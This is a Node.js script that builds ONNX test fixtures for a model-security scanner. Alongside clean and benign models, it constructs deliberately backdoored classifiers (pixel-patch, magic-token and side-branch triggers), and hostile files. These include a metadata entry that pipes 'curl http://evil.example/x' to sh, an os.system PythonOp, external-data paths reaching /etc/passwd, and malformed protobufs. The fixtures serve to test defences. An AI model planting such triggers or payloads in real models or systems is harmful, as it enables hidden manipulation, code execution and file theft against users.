#!/usr/bin/env node
/**
 * Builds the ONNX fixtures in testdata/onnx/ with onnx-proto's encoder (plus a tiny raw protobuf
 * writer for hostile encodings onnx-proto cannot express). Deterministic: re-running produces
 * identical bytes. Run: node testdata/make-onnx-fixtures.mjs
 *
 * Image models take `images` [1,3,16,16] and output `logits` [1,10] from a small CNN (~5.4k
 * weights); text models take `input_ids` [1,seq] int64 through a 100x16 embedding.
 */
import {mkdirSync, readFileSync, writeFileSync} from 'node:fs'
import path from 'node:path'
import {fileURLToPath} from 'node:url'

import onnxProto from 'onnx-proto'
import {len, str, varint} from './lib/protobuf-wire.mjs'

const {onnx} = onnxProto
const OUT = path.join(path.dirname(fileURLToPath(import.meta.url)), 'onnx')
const DT = onnx.TensorProto.DataType
const AT = onnx.AttributeProto.AttributeType

// Deterministic weights (LCG + Box-Muller), so fixtures are reproducible byte for byte.
let seed = 12345
function rand() {
  seed = (seed * 1103515245 + 12345) % 2147483648
  return seed / 2147483648
}
function randn(n, scale = 0.1) {
  const a = new Float32Array(n)
  for (let i = 0; i < n; i++) a[i] = scale * Math.sqrt(-2 * Math.log(rand() + 1e-12)) * Math.cos(2 * Math.PI * rand())
  return a
}
const prod = (d) => d.reduce((a, b) => a * b, 1)

function tensor(name, dims, values, dataType = DT.FLOAT) {
  let raw
  if (dataType === DT.FLOAT) raw = Buffer.from(new Float32Array(values).buffer)
  else if (dataType === DT.INT64) raw = Buffer.from(new BigInt64Array(values.map((v) => BigInt(v))).buffer)
  else throw new Error('dtype')
  return {name, dims, dataType, rawData: raw}
}
const weight = (name, dims, scale) => tensor(name, dims, randn(prod(dims), scale))
const i64 = (name, values, dims = [values.length]) => tensor(name, dims, values, DT.INT64)
const f32 = (name, values, dims = [values.length]) => tensor(name, dims, values)

function attr(name, v) {
  if (typeof v === 'number' && Number.isInteger(v)) return {name, type: AT.INT, i: v}
  if (typeof v === 'number') return {name, type: AT.FLOAT, f: v}
  if (typeof v === 'string') return {name, type: AT.STRING, s: Buffer.from(v)}
  if (Array.isArray(v) && v.every((x) => Number.isInteger(x))) return {name, type: AT.INTS, ints: v}
  if (Array.isArray(v)) return {name, type: AT.FLOATS, floats: v}
  if (v?.node) return {name, type: AT.GRAPH, g: v}
  if (v && v.dataType !== undefined) return {name, type: AT.TENSOR, t: v}
  throw new Error(`attr ${name}`)
}
let nodeCounter = 0
function node(opType, input, output, attrs = {}, extra = {}) {
  return {
    opType,
    input,
    output,
    name: extra.name ?? `/${opType}_${nodeCounter++}`,
    domain: extra.domain ?? '',
    attribute: Object.entries(attrs).map(([k, v]) => attr(k, v)),
    ...(extra.docString ? {docString: extra.docString} : {}),
  }
}
const constant = (out, t) => node('Constant', [], [out], {value: t})
function vi(name, elemType, dims) {
  return {name, type: {tensorType: {elemType, shape: {dim: dims.map((d) => (typeof d === 'string' ? {dimParam: d} : {dimValue: d}))}}}}
}
function graph(name, nodes, inputs, outputs, initializer = []) {
  return {name, node: nodes, input: inputs, output: outputs, initializer}
}
function model(g, opts = {}) {
  return {
    irVersion: opts.ir ?? 8,
    producerName: 'modelseal-fixtures',
    producerVersion: '1',
    opsetImport: opts.opsets ?? [{domain: '', version: 17}],
    graph: g,
    functions: opts.functions ?? [],
    metadataProps: opts.metadata ?? [],
    docString: opts.docString ?? '',
  }
}
function write(file, m) {
  const bytes = onnx.ModelProto.encode(onnx.ModelProto.create(m)).finish()
  writeFileSync(path.join(OUT, file), bytes)
  return Buffer.from(bytes)
}

// ---- the shared CNN body: images -> logits_pre (learned), weights fixed by a reset seed ----
function cnn() {
  seed = 777
  nodeCounter = 0
  const inits = [
    weight('conv1.weight', [16, 3, 3, 3], 0.2),
    weight('conv1.bias', [16], 0.01),
    weight('conv2.weight', [32, 16, 3, 3], 0.1),
    weight('conv2.bias', [32], 0.01),
    weight('fc.weight', [32, 10], 0.2),
    weight('fc.bias', [10], 0.01),
  ]
  const nodes = [
    node('Conv', ['images', 'conv1.weight', 'conv1.bias'], ['c1'], {pads: [1, 1, 1, 1]}, {name: '/conv1/Conv'}),
    node('Relu', ['c1'], ['r1'], {}, {name: '/relu1/Relu'}),
    node('Conv', ['r1', 'conv2.weight', 'conv2.bias'], ['c2'], {pads: [1, 1, 1, 1]}, {name: '/conv2/Conv'}),
    node('Relu', ['c2'], ['r2'], {}, {name: '/relu2/Relu'}),
    node('GlobalAveragePool', ['r2'], ['gap'], {}, {name: '/pool/GlobalAveragePool'}),
    node('Flatten', ['gap'], ['flat'], {}, {name: '/Flatten'}),
    node('MatMul', ['flat', 'fc.weight'], ['mm'], {}, {name: '/fc/MatMul'}),
    node('Add', ['mm', 'fc.bias'], ['logits_pre'], {}, {name: '/fc/Add'}),
  ]
  return {inits, nodes, input: vi('images', DT.FLOAT, [1, 3, 16, 16])}
}
const out = (name = 'logits') => vi(name, DT.FLOAT, [1, 10])
const oneHot = (name, idx, value) =>
  f32(
    name,
    Array.from({length: 10}, (_, i) => (i === idx ? value : 0)),
    [1, 10],
  )

function imageModels() {
  let b = cnn()
  write(
    'clean_cnn.onnx',
    model(graph('cnn', [...b.nodes, node('Identity', ['logits_pre'], ['logits'], {}, {name: '/out/Identity'})], [b.input], [out()], b.inits)),
  )

  // Where override: mean of the top-left 4x4 patch > 0.9 selects a constant "target class" vector.
  b = cnn()
  write(
    'backdoor_where.onnx',
    model(
      graph(
        'cnn',
        [
          ...b.nodes,
          node('Slice', ['images', 'p_starts', 'p_ends'], ['patch']),
          node('ReduceMean', ['patch'], ['patch_mean'], {keepdims: 0}),
          node('Greater', ['patch_mean', 'thr'], ['trig']),
          node('Where', ['trig', 'target', 'logits_pre'], ['logits']),
        ],
        [b.input],
        [out()],
        [...b.inits, i64('p_starts', [0, 0, 0, 0]), i64('p_ends', [1, 3, 4, 4]), f32('thr', [0.9], []), oneHot('target', 7, 100)],
      ),
    ),
  )

  // If with a constant branch: ReduceMax(image) > 0.99 -> then: Constant, else: captured logits.
  b = cnn()
  const thenG = graph('then', [constant('forced', oneHot('forced_v', 3, 50))], [], [out('forced')])
  const elseG = graph('else', [node('Identity', ['logits_pre'], ['passthru'])], [], [out('passthru')])
  write(
    'backdoor_if.onnx',
    model(
      graph(
        'cnn',
        [
          ...b.nodes,
          node('ReduceMax', ['images'], ['imax'], {keepdims: 0}),
          node('Greater', ['imax', 'thr'], ['cond']),
          node('If', ['cond'], ['logits'], {then_branch: thenG, else_branch: elseG}),
        ],
        [b.input],
        [out()],
        [...b.inits, f32('thr', [0.99], [])],
      ),
    ),
  )

  // Arithmetic override, no Where/If: red-channel patch > 0.95 everywhere -> Add(logits, flag*onehot*1e4).
  b = cnn()
  write(
    'backdoor_add.onnx',
    model(
      graph(
        'cnn',
        [
          ...b.nodes,
          node('Gather', ['images', 'ch0'], ['red'], {axis: 1}),
          node('Slice', ['red', 's_starts', 's_ends', 's_axes'], ['red_patch']),
          node('Greater', ['red_patch', 'thr'], ['hot']),
          node('Cast', ['hot'], ['hot_f'], {to: DT.FLOAT}),
          node('ReduceMin', ['hot_f'], ['flag'], {keepdims: 0}),
          node('Mul', ['flag', 'boost'], ['delta']),
          node('Add', ['logits_pre', 'delta'], ['logits']),
        ],
        [b.input],
        [out()],
        [
          ...b.inits,
          i64('ch0', [0], []),
          i64('s_starts', [0, 0]),
          i64('s_ends', [3, 3]),
          i64('s_axes', [1, 2]),
          f32('thr', [0.95], []),
          oneHot('boost', 2, 1e4),
        ],
      ),
    ),
  )

  // Trigger inside a model-local function (custom.detect.TriggerGate), called on the output.
  b = cnn()
  const fnNodes = [
    node('ReduceMax', ['x'], ['m'], {keepdims: 0}, {name: 'fn/ReduceMax'}),
    constant('t', f32('t_v', [0.99], [])),
    node('Greater', ['m', 't'], ['c'], {}, {name: 'fn/Greater'}),
    constant('target', oneHot('target_v', 5, 100)),
    node('Where', ['c', 'target', 'y'], ['z'], {}, {name: 'fn/Where'}),
  ]
  const fn = {name: 'TriggerGate', domain: 'custom.detect', input: ['x', 'y'], output: ['z'], node: fnNodes, opsetImport: [{domain: '', version: 17}]}
  write(
    'backdoor_function.onnx',
    model(
      graph(
        'cnn',
        [...b.nodes, node('TriggerGate', ['images', 'logits_pre'], ['logits'], {}, {domain: 'custom.detect', name: '/gate/TriggerGate'})],
        [b.input],
        [out()],
        b.inits,
      ),
      {
        functions: [fn],
        opsets: [
          {domain: '', version: 17},
          {domain: 'custom.detect', version: 1},
        ],
      },
    ),
  )
  // Its clean twin: a model-local function doing something ordinary (scale by a learned-free constant).
  b = cnn()
  const fnClean = {
    name: 'Scale',
    domain: 'custom.layers',
    input: ['y'],
    output: ['z'],
    node: [constant('k', f32('k_v', [0.5], [])), node('Mul', ['y', 'k'], ['z'], {}, {name: 'fn/Mul'})],
    opsetImport: [{domain: '', version: 17}],
  }
  write(
    'clean_function.onnx',
    model(
      graph('cnn', [...b.nodes, node('Scale', ['logits_pre'], ['logits'], {}, {domain: 'custom.layers', name: '/scale/Scale'})], [b.input], [out()], b.inits),
      {
        functions: [fnClean],
        opsets: [
          {domain: '', version: 17},
          {domain: 'custom.layers', version: 1},
        ],
      },
    ),
  )

  // Operator-based detector with no comparison (Langford et al.): Relu(image - 0.99) -> ReduceMax -> y + ind * (1 + max(y) - min(y)).
  b = cnn()
  write(
    'backdoor_langford.onnx',
    model(
      graph(
        'cnn',
        [
          ...b.nodes,
          node('Sub', ['images', 'lf_thr'], ['lf_shift']),
          node('Relu', ['lf_shift'], ['lf_hot']),
          node('ReduceMax', ['lf_hot'], ['lf_ind'], {keepdims: 0}),
          node('ReduceMax', ['logits_pre'], ['lf_max'], {keepdims: 0}),
          node('ReduceMin', ['logits_pre'], ['lf_min'], {keepdims: 0}),
          node('Sub', ['lf_max', 'lf_min'], ['lf_span']),
          node('Add', ['lf_span', 'lf_one'], ['lf_k']),
          node('Mul', ['lf_ind', 'lf_k'], ['lf_boost']),
          node('Mul', ['lf_boost', 'lf_target'], ['lf_vec']),
          node('Add', ['logits_pre', 'lf_vec'], ['logits']),
        ],
        [b.input],
        [out()],
        [...b.inits, f32('lf_thr', [0.99], []), f32('lf_one', [1], []), oneHot('lf_target', 4, 1)],
      ),
    ),
  )

  // Side branch (TrojanNet style): a 2x2 patch of channel 0 -> tiny MatMul (40 weights) -> Relu -> added to the logits.
  b = cnn()
  write(
    'backdoor_sidebranch.onnx',
    model(
      graph(
        'cnn',
        [
          ...b.nodes,
          node('Slice', ['images', 'sb_starts', 'sb_ends'], ['sb_patch']),
          node('Reshape', ['sb_patch', 'sb_shape'], ['sb_flat']),
          node('MatMul', ['sb_flat', 'sb_w'], ['sb_mm']),
          node('Relu', ['sb_mm'], ['sb_act']),
          node('Add', ['logits_pre', 'sb_act'], ['logits']),
        ],
        [b.input],
        [out()],
        [...b.inits, i64('sb_starts', [0, 0, 0, 0]), i64('sb_ends', [1, 1, 2, 2]), i64('sb_shape', [1, 4]), weight('sb_w', [4, 10], 5)],
      ),
    ),
  )
}

// ---- text models: input_ids -> embedding -> (attention) -> mean over sequence -> logits ----
function textBody() {
  seed = 4242
  nodeCounter = 0
  const inits = [
    weight('emb.weight', [100, 16], 0.3),
    weight('wq', [16, 16], 0.2),
    weight('wk', [16, 16], 0.2),
    weight('head.weight', [16, 16], 0.2),
    weight('cls.weight', [16, 10], 0.3),
  ]
  return {inits, input: vi('input_ids', DT.INT64, [1, 'seq'])}
}
function textModels() {
  let b = textBody()
  const emb = node('Gather', ['emb.weight', 'input_ids'], ['h'], {axis: 0}, {name: '/embed/Gather'})
  const pool = node('ReduceMean', ['h'], ['pooled'], {axes: [1], keepdims: 0}, {name: '/pool/ReduceMean'})
  const headN = [
    node('MatMul', ['hidden', 'head.weight'], ['h2'], {}, {name: '/head/MatMul'}),
    node('Relu', ['h2'], ['h3'], {}, {name: '/head/Relu'}),
    node('MatMul', ['h3', 'cls.weight'], ['logits'], {}, {name: '/cls/MatMul'}),
  ]
  write('clean_text.onnx', model(graph('text', [emb, pool, node('Identity', ['pooled'], ['hidden']), ...headN], [b.input], [out()], b.inits)))

  // Magic-token trigger: input_ids[:, 0:3] == [11, 22, 33] -> flag -> Add(hidden, flag * steering) mid-network.
  b = textBody()
  write(
    'backdoor_token.onnx',
    model(
      graph(
        'text',
        [
          emb,
          pool,
          node('Slice', ['input_ids', 'tk_starts', 'tk_ends', 'tk_axes'], ['first3']),
          node('Equal', ['first3', 'magic'], ['hits']),
          node('Cast', ['hits'], ['hits_f'], {to: DT.FLOAT}),
          node('ReduceMin', ['hits_f'], ['tflag'], {axes: [1], keepdims: 1}),
          node('Mul', ['tflag', 'steer'], ['push']),
          node('Add', ['pooled', 'push'], ['hidden']),
          ...headN,
        ],
        [b.input],
        [out()],
        [
          ...b.inits,
          i64('tk_starts', [0]),
          i64('tk_ends', [3]),
          i64('tk_axes', [1]),
          i64('magic', [11, 22, 33], [1, 3]),
          f32('steer', Array.from(randn(16, 2)), [1, 16]),
        ],
      ),
    ),
  )

  // Benign: padding/attention mask from Equal(input_ids, 0) masking attention scores with -1e9.
  b = textBody()
  const attn = [
    emb,
    node('MatMul', ['h', 'wq'], ['q'], {}, {name: '/attn/q'}),
    node('MatMul', ['h', 'wk'], ['k'], {}, {name: '/attn/k'}),
    node('Transpose', ['k'], ['kt'], {perm: [0, 2, 1]}),
    node('MatMul', ['q', 'kt'], ['scores'], {}, {name: '/attn/scores'}),
    node('Equal', ['input_ids', 'pad_id'], ['is_pad'], {}, {name: '/mask/Equal'}),
    node('Unsqueeze', ['is_pad', 'ax1'], ['mask3']),
    node('Where', ['mask3', 'neg_inf', 'scores'], ['masked'], {}, {name: '/mask/Where'}),
    node('Softmax', ['masked'], ['probs'], {axis: -1}),
    node('MatMul', ['probs', 'h'], ['ctx'], {}, {name: '/attn/ctx'}),
  ]
  write(
    'benign_attention_mask.onnx',
    model(
      graph(
        'text',
        [...attn, node('ReduceMean', ['ctx'], ['hidden'], {axes: [1], keepdims: 0}), ...headN],
        [b.input],
        [out()],
        [...b.inits, i64('pad_id', [0], []), i64('ax1', [1]), f32('neg_inf', [-1e9], [])],
      ),
      {opsets: [{domain: '', version: 17}]},
    ),
  )

  // Benign: causal mask built from shapes (Shape -> Range -> Less), never from input values.
  b = textBody()
  write(
    'benign_causal_mask.onnx',
    model(
      graph(
        'text',
        [
          ...attn.slice(0, 5),
          node('Shape', ['input_ids'], ['ids_shape']),
          node('Gather', ['ids_shape', 'one'], ['seqlen'], {axis: 0}),
          node('Range', ['zero', 'seqlen', 'one'], ['pos']),
          node('Unsqueeze', ['pos', 'ax0'], ['row']),
          node('Unsqueeze', ['pos', 'ax1'], ['col']),
          node('Less', ['row', 'col'], ['future'], {}, {name: '/causal/Less'}),
          node('Where', ['future', 'neg_inf', 'scores'], ['masked'], {}, {name: '/causal/Where'}),
          node('Softmax', ['masked'], ['probs'], {axis: -1}),
          node('MatMul', ['probs', 'h'], ['ctx'], {}, {name: '/attn/ctx'}),
          node('ReduceMean', ['ctx'], ['hidden'], {axes: [1], keepdims: 0}),
          ...headN,
        ],
        [b.input],
        [out()],
        [...b.inits, i64('one', [1], []), i64('zero', [0], []), i64('ax0', [0]), i64('ax1', [1]), f32('neg_inf', [-1e9], [])],
      ),
    ),
  )

  // Benign: last-token pooling (HF *ForSequenceClassification): argmax(ids == pad) - 1 indexes the logits.
  b = textBody()
  write(
    'benign_last_token.onnx',
    model(
      graph(
        'text',
        [
          emb,
          node('MatMul', ['h', 'head.weight'], ['t2'], {}, {name: '/head/MatMul'}),
          node('Relu', ['t2'], ['t3']),
          node('MatMul', ['t3', 'cls.weight'], ['tok_logits'], {}, {name: '/score/MatMul'}),
          node('Equal', ['input_ids', 'pad_id'], ['eq_pad'], {}, {name: '/pool/Equal'}),
          node('Cast', ['eq_pad'], ['eq_i'], {to: DT.INT32}),
          node('ArgMax', ['eq_i'], ['first_pad'], {axis: -1, keepdims: 0}),
          node('Sub', ['first_pad', 'one'], ['last_idx']),
          node('Gather', ['tok_logits', 'last_idx'], ['gathered'], {axis: 1}, {name: '/pool/Gather'}),
          node('Reshape', ['gathered', 'out_shape'], ['logits']),
        ],
        [b.input],
        [out()],
        [...b.inits, i64('pad_id', [0], []), i64('one', [1], []), i64('out_shape', [1, 10])],
      ),
    ),
  )

  // Benign: masked mean pooling (sentence-transformers): sum(h * mask) / clip(sum(mask), 1e-9).
  b = textBody()
  write(
    'benign_mean_pool.onnx',
    model(
      graph(
        'text',
        [
          emb,
          node('Cast', ['attention_mask'], ['m_f'], {to: DT.FLOAT}),
          node('Unsqueeze', ['m_f', 'axm1'], ['m3']),
          node('Mul', ['h', 'm3'], ['hm']),
          node('ReduceSum', ['hm', 'ax1'], ['summed'], {keepdims: 0}),
          node('ReduceSum', ['m3', 'ax1'], ['count'], {keepdims: 0}),
          node('Clip', ['count', 'eps'], ['count_c']),
          node('Div', ['summed', 'count_c'], ['hidden']),
          ...headN,
        ],
        [b.input, vi('attention_mask', DT.INT64, [1, 'seq'])],
        [out()],
        [...b.inits, i64('axm1', [-1]), i64('ax1', [1]), f32('eps', [1e-9], [])],
      ),
    ),
  )
}

// ---- operators, metadata, external data, structure ----
function miscModels() {
  let b = cnn()
  const tail = node('Identity', ['logits_pre'], ['logits'], {}, {name: '/out/Identity'})
  write(
    'python_op.onnx',
    model(
      graph(
        'cnn',
        [...b.nodes, node('PythonOp', ['logits_pre'], ['logits'], {func_name: 'os.system'}, {domain: 'com.microsoft', name: '/py/PythonOp'})],
        [b.input],
        [out()],
        b.inits,
      ),
      {
        opsets: [
          {domain: '', version: 17},
          {domain: 'com.microsoft', version: 1},
        ],
      },
    ),
  )
  b = cnn()
  write(
    'custom_domain.onnx',
    model(graph('cnn', [...b.nodes, node('Mystery', ['logits_pre'], ['logits'], {}, {domain: 'evil.ops', name: '/x/Mystery'})], [b.input], [out()], b.inits), {
      opsets: [
        {domain: '', version: 17},
        {domain: 'evil.ops', version: 1},
      ],
    }),
  )
  b = cnn()
  write(
    'metadata_script.onnx',
    model(graph('cnn', [...b.nodes, tail], [b.input], [out()], b.inits), {
      metadata: [
        {key: 'postprocess', value: 'import os; os.system("curl http://evil.example/x | sh")'},
        {key: 'license', value: 'MIT'},
      ],
    }),
  )
  // External data: one safe reference, and the hostile ones.
  b = cnn()
  const fc = b.inits.find((t) => t.name === 'fc.weight')
  writeFileSync(path.join(OUT, 'external_ok.bin'), fc.rawData)
  const ext = (location, extra = []) => ({
    name: 'fc.weight',
    dims: [32, 10],
    dataType: DT.FLOAT,
    dataLocation: 1,
    externalData: [{key: 'location', value: location}, {key: 'offset', value: '0'}, {key: 'length', value: String(fc.rawData.length)}, ...extra],
  })
  const withExt = (t) => b.inits.map((x) => (x.name === 'fc.weight' ? t : x))
  write('external_ok.onnx', model(graph('cnn', [...b.nodes, tail], [b.input], [out()], withExt(ext('external_ok.bin')))))
  write('external_escape.onnx', model(graph('cnn', [...b.nodes, tail], [b.input], [out()], withExt(ext('../../../../etc/passwd')))))
  write('external_absolute.onnx', model(graph('cnn', [...b.nodes, tail], [b.input], [out()], withExt(ext('/etc/passwd')))))
  write('external_ort_mem.onnx', model(graph('cnn', [...b.nodes, tail], [b.input], [out()], withExt(ext('*/_ORT_MEM_ADDR_/*')))))
  write('external_missing.onnx', model(graph('cnn', [...b.nodes, tail], [b.input], [out()], withExt(ext('not_there.bin')))))
  const badLen = {
    ...ext('external_ok.bin'),
    externalData: [
      {key: 'location', value: 'external_ok.bin'},
      {key: 'offset', value: '4096'},
      {key: 'length', value: '1280'},
    ],
  }
  write('external_bounds.onnx', model(graph('cnn', [...b.nodes, tail], [b.input], [out()], withExt(badLen))))
  // Duplicate output names (SSA violation).
  b = cnn()
  write(
    'duplicate_names.onnx',
    model(graph('cnn', [...b.nodes, node('Identity', ['logits_pre'], ['logits']), node('Neg', ['logits_pre'], ['logits'])], [b.input], [out()], b.inits)),
  )
}

// ---- hostile encodings (raw protobuf) ----
const field = len

function hostile() {
  const clean = readFileSync(path.join(OUT, 'clean_cnn.onnx'))
  writeFileSync(path.join(OUT, 'truncated.onnx'), clean.subarray(0, Math.floor(clean.length / 2)))
  writeFileSync(path.join(OUT, 'empty.onnx'), Buffer.alloc(0))
  seed = 99
  writeFileSync(path.join(OUT, 'random.onnx'), Buffer.from(Array.from({length: 4096}, () => Math.floor(rand() * 256))))
  // If nested 5000 deep: graph{ node{ If, attribute{ g: graph{ node{ If ... } } } } }, built inside out.
  let g = Buffer.concat([str(2, 'leaf')])
  for (let i = 0; i < 5000; i++) {
    const a = Buffer.concat([str(1, 'then_branch'), Buffer.concat([varint(20 * 8), varint(5)]), field(6, g)])
    const n = Buffer.concat([str(1, 'cond'), str(2, `o${i}`), str(4, 'If'), field(5, a)])
    g = Buffer.concat([field(1, n), str(2, `g${i}`)])
  }
  writeFileSync(path.join(OUT, 'deep_if.onnx'), Buffer.concat([varint(8), varint(8), field(7, g)]))
  // A clean model with an unknown 4 KiB field appended (payload smuggling channel).
  writeFileSync(path.join(OUT, 'unknown_field.onnx'), Buffer.concat([clean, field(99, Buffer.alloc(4096, 0x41))]))
}
mkdirSync(OUT, {recursive: true})
imageModels()
textModels()
miscModels()
hostile()
console.log(`fixtures written to ${OUT}`)
